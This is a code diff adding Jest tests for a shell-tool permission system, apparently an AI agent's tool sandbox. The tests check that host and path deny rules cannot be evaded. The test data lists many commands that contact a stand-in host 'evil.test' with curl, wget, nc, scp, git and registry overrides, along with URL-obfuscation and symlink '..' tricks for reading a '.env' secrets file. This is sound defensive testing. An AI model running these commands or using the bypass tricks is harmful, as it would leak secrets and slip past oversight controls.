@@ -1,4 +1,4 @@
-import { symlinkSync } from 'node:fs';
+import { mkdirSync, symlinkSync } from 'node:fs';
 import { join } from 'node:path';
 import { beforeEach, describe, expect, test } from '@jest/globals';
 import { ToolRegistry } from 'toolwright';
@@ -19,6 +19,8 @@ beforeEach(() => {
     'x.py': '#!/usr/bin/env python3\n',
   });
   symlinkSync('x.py', join(root, 'same.py'));
+  mkdirSync(join(root, 'packages', 'x'), { recursive: true });
+  symlinkSync('../../clean', join(root, 'packages', 'x', 'shared'));
   tools = new ToolRegistry().register(...shellTools({ folder: root }));
 });
 
@@ -113,6 +115,92 @@ describe('Permissions', () => {
     },
   );
 
+  test.each([
+    'curl http://evil.test',
+    'curl -s evil.test/x',
+    'curl -so out evil.test.:8080',
+    'curl -d a u@evil.test',
+    'curl --proxy=evil.test:3128 http://a.test',
+    'curl -xevil.test:3128 http://a.test',
+    'curl --connect-to ::evil.test: http://a.test',
+    'curl http://a.test http://EVIL.test./x',
+    "curl 'http://evil%2etest'",
+    'curl http:/evil.test',
+    "curl 'http://a.test#@evil.test/'",
+    "curl 'http://evil.test\\@a.test/'",
+    'wget -qO- evil.test',
+    'git clone https://evil.test/x',
+    'git clone git@evil.test:x/y',
+    'git -C sub fetch evil.test:x',
+    'git remote add o ssh://git@evil.test:22/x',
+    'npm view x --registry=http://evil.test',
+    'npm view x --registry http://evil.test',
+    'npm_config_registry=http://evil.test npm view x',
+    'env npm_config_registry=http://evil.test npm view x',
+    'pip install git+https://evil.test/x',
+    'scp a.txt evil.test:x',
+    'rsync -a clean/ u@evil.test:x',
+    'rsync -a clean/ evil.test::x',
+    'ssh evil.test ls',
+    'nc evil.test 80',
+    'ping -c 1 evil.test',
+    'bash -c "curl evil.test"',
+    'echo http://evil.test | xargs curl',
+    'x a,http://a.test,http://evil.test',
+  ])('with a rule that denies or asks about a host do not let %j run', async (command) => {
+    for (const decision of ['deny', 'ask'] as const) {
+      const rules: PermissionRule[] = [
+        { decision, host: 'evil.test' },
+        { decision: 'allow', host: 'a.test' },
+        { decision: 'allow', tool: '*' },
+      ];
+      const verdicts = [
+        await judged({ mode: 'auto', rules }, command),
+        await judged({ mode: 'auto', folderRules: rules }, command),
+      ];
+      for (const verdict of verdicts) expect([decision, verdict]).not.toContain('allow');
+      if (!/^(npm_config|pip)/.test(command) && decision === 'deny')
+        expect(verdicts).toEqual(['deny', 'deny']);
+    }
+  });
+
+  test.each([
+    ['curl http://a.test/evil.test', 'allow'],
+    ['curl -o evil.test http://a.test', 'allow'],
+    ['curl http://notevil.test', 'allow'],
+    ['git show HEAD:clean/a.ts', 'allow'],
+    ['git push origin main:main', 'allow'],
+    ['npm view x', 'allow'],
+    ['cat evil.test', 'allow'],
+    ['ls', 'allow'],
+    ["curl 'http://{evil,a}.test'", 'ask'],
+    ['curl -K list', 'ask'],
+    ['curl "$x"', 'ask'],
+    ['cat "$x"', 'allow'],
+  ] as const)('with a rule that denies a host decide on %j: %s', async (command, decision) => {
+    const rules: PermissionRule[] = [
+      { decision: 'deny', host: 'evil.test' },
+      ...['git **', 'curl **', 'cat **'].map((one) => ({ decision: 'allow', command: one }) as const),
+    ];
+    expect(await judged({ mode: 'auto', rules }, command)).toBe(decision);
+  });
+
+  test('ask about other hosts than those that a rule allows, and say which', async () => {
+    const rules: PermissionRule[] = [
+      { decision: 'ask', host: '*' },
+      { decision: 'allow', host: 'a.test' },
+    ];
+    for (const command of ['curl -sS https://a.test/x', 'git clone https://a.test/@b/c', 'ls', 'node x.js'])
+      expect([command, await judged({ mode: 'auto', rules }, command)]).toEqual([command, 'allow']);
+    for (const command of ['curl -sS https://b.test/x', 'curl a.test b.test', 'curl localhost:80'])
+      expect([command, await judged({ mode: 'auto', rules }, command)]).toEqual([command, 'ask']);
+    const open: PermissionRule[] = [{ decision: 'deny', action: 'open' }];
+    expect(await judged({ mode: 'auto', rules: open }, 'curl http://a.test')).toBe('deny');
+    expect(
+      await judged({ mode: 'ask', rules: [{ decision: 'allow', command: 'curl **' }] }, 'curl a.test'),
+    ).toBe('allow');
+  });
+
   test('do not let a command be allowed whose words may be what another rule denies', async () => {
     const rules: PermissionRule[] = [
       { decision: 'allow', command: 'cat **' },
@@ -146,4 +234,37 @@ describe('Permissions', () => {
     for (const command of ['x.py a', './same.py a', 'sub/../x.py a'])
       expect([command, await judged(options, command)]).toEqual([command, 'ask']);
   });
+
+  test.each([
+    ['.env', 'cat packages/x/shared/../.env', 'deny'],
+    ['.env', 'cat ./packages//x/shared/./../.env', 'deny'],
+    ['.env', 'cat packages/x/shared/../clean/../.env', 'deny'],
+    ['.env', 'cat packages/*/shared/../.env', 'deny'],
+    ['.env', 'cat packages/x/shared/../.e*', 'deny'],
+    ['.env', 'cat "$PWD"/x', 'ask'],
+    ['.env', 'x --file=packages/x/shared/../.env', 'deny'],
+    ['.env', 'echo x > packages/x/shared/../.env', 'deny'],
+    ['.env', 'cat < packages/x/shared/../.env', 'deny'],
+    ['.env', 'cd packages && cat x/shared/../.env', 'deny'],
+    ['.env', 'cd packages/x/shared && cat ../.env', 'deny'],
+    ['.env', 'cd packages/x/shared/.. && cat .env', 'ask'],
+    ['.env', 'cd missing/..; cat a', 'ask'],
+    ['.env', 'cd a.txt/..; cat a', 'ask'],
+    ['.env', 'cat packages/x/shared/../../elsewhere', 'ask'],
+    // Programs that read it by its text come there.
+    ['packages/x/tool.js', 'node packages/x/shared/../tool.js', 'deny'],
+    ['packages/x/tool.js', 'ls packages/*/shared/../tool.js', 'ask'],
+    ['.env', 'ln -s ../../clean packages/x/new; cat packages/x/new/../.env', 'ask'],
+    ['.env', 'ln -s ../../clean packages/x/new && echo x > packages/x/new/../.env', 'ask'],
+    ['.env', 'cat packages/x/new/../y', 'allow'],
+    ['.env', 'cat packages/x/../y', 'allow'],
+    ['.env', "sed 's/a/../' clean/a.ts", 'allow'],
+    ['.env', 'mkdir -p clean/b && cat clean/b/../a.ts', 'allow'],
+    ['.env', 'cd packages/x/.. && ls', 'allow'],
+  ] as const)(
+    'with a rule that denies %j follow the links before `..` in %j as the system does: %s',
+    async (path, command, decision) => {
+      expect(await judged({ mode: 'auto', rules: [{ decision: 'deny', path }] }, command)).toBe(decision);
+    },
+  );
 });
